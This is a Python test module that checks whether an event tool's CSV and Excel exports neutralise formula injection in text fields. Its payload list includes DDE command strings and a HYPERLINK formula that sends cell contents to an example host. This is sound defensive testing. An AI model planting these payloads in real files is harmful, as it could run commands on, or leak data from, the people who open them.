"""Texts a spreadsheet would run, in every text field, through every export of people and
timetable: no formula lives, all comes back.
"""

from __future__ import annotations

import csv
import re
import tempfile
from collections.abc import Callable, Iterator, Mapping, Sequence
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import openpyxl

from lcdesk.model.catalogue import ACTIVITY, PARTICIPANT, RecordKind
from lcdesk.model.faults import BadValue
from lcdesk.model.fields import Field
from lcdesk.model.kinds import LongText, Text
from lcdesk.model.query import Query
from lcdesk.services.cohorts.cohorts import add_cohort
from lcdesk.services.core.desk import Desk
from lcdesk.services.curriculum.curriculum import add_activity, change_activities
from lcdesk.services.exporting.exporting import (
    export_cohort,
    export_curriculum,
    export_participants,
    export_shown,
)
from lcdesk.services.importing import importing
from lcdesk.services.participants.participants import add_participant, change_participants
from lcdesk.tabular.writing import cells
from tests.faults.courses import new_desk
from tests.faults.fault import Control, Fault, Figures

PAYLOADS = (
    "=1+1",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://example.org/?"&A1,"x")',
    "=WEBSERVICE(A1)",
    "=DDE(1)",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /c calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '=IMPORTXML("http://example.org","//a")',
    '=A1;=B1,"=C1"',
)
_LIVE = re.compile(r"[=+\-@\t\r＝＋－＠]")
_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?|\d{4}-\d\d-\d\d.*")
Write = Callable[[Desk, Path], object]


def _shown(desk: Desk, path: Path) -> object:
    return export_shown(desk, Query.of(1), _texts_of(PARTICIPANT), path, is_plain=True)


# Ending and way of each export, and whether all text fields of people are in it, to be read back.
EXPORTS: tuple[tuple[str, Write, bool], ...] = (
    ("xlsx", _shown, True),
    ("csv", _shown, True),
    ("xlsx", lambda desk, path: export_cohort(desk, 1, path, is_plain=True), False),
    ("xlsx", lambda desk, path: export_participants(desk, [1], path), False),
    ("xlsx", lambda desk, path: export_curriculum(desk, 1, path), False),
)


def run(trials: int, _seed: int) -> Figures:
    """Each trial is a payload in one export."""
    return _run(trials, EXPORTS)


def run_without_guard(trials: int, _seed: int) -> Figures:
    """The control: CSV is written as the texts are."""
    kept = cells.neutral
    cells.neutral = lambda words: words
    try:
        return _run(trials, [one for one in EXPORTS if one[0] == "csv"])
    finally:
        cells.neutral = kept


def _run(trials: int, exports: Sequence[tuple[str, Write, bool]]) -> Figures:
    harm, fields, done = {"live formulas": 0, "values that came back otherwise": 0}, 0, 0
    with (
        tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as place,
        _desk(Path(place)) as desk,
    ):
        for payload in PAYLOADS:
            if done == trials:
                break
            fields = _plant(desk, payload)
            for ending, write, comes_back in exports:
                if done == trials:
                    break
                path = Path(place) / f"out {done}.{ending}"
                write(desk, path)
                harm["live formulas"] += (_live_in_book if ending == "xlsx" else _live_in_lines)(
                    path
                )
                if comes_back:
                    harm["values that came back otherwise"] += _changed(desk, path)
                done += 1
    return Figures(trials, harm, {"text fields": fields})


@contextmanager
def _desk(folder: Path) -> Iterator[Desk]:
    desk = new_desk(folder)
    add_cohort(desk, {"name_en": "Shanghai"})
    add_participant(desk, 1, {"full_name": "Ana Reyes", "nationality": "KE"})
    add_activity(desk, 1, {"title": "Opening"})
    try:
        yield desk
    finally:
        desk.close()


def _texts_of(kind: RecordKind) -> list[str]:
    """The fields that take any text."""
    return [field.name for field in kind.fields if type(field.kind) in (Text, LongText)]


def _plant(desk: Desk, payload: str) -> int:
    """The payload in every text field; in how many."""
    people, activities = (
        {name: _kept(kind.field(name), payload) for name in _texts_of(kind)}
        for kind in (PARTICIPANT, ACTIVITY)
    )
    change_participants(desk, [1], people)
    change_activities(desk, [1], activities)
    return len(people) + len(activities)


def _kept(field: Field, payload: str) -> Any:
    """The payload as the field keeps it: what is typed there is tidied first."""
    try:
        return field.parse(payload)
    except BadValue as fault:
        return fault.kept


def _live_in_book(path: Path) -> int:
    book = openpyxl.load_workbook(path)
    cells = (cell for sheet in book.worksheets for line in sheet.iter_rows() for cell in line)
    return sum(cell.data_type == "f" for cell in cells)


def _live_in_lines(path: Path) -> int:
    with path.open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for line in csv.reader(file) for cell in line]
    return sum(bool(_LIVE.match(cell)) and not _NUMBER.fullmatch(cell) for cell in cells)


def _changed(desk: Desk, path: Path) -> int:
    """Read it back as an import: how many values would be other ones."""
    rows = importing.prepare(desk, importing.read_file(path), 1).rows
    changes: list[Mapping[str, Any]] = [row.changes for row in rows]
    return sum(map(len, changes)) + (len(rows) != 1) + sum(row.fate != "same" for row in rows)


FAULTS = (
    Fault(
        "formulas",
        "texts that are formulas in every text field, through every export",
        run,
        len(PAYLOADS) * len(EXPORTS),
        3,
        (Control("CSV written without its guard", run_without_guard, 18, 1),),
    ),
)
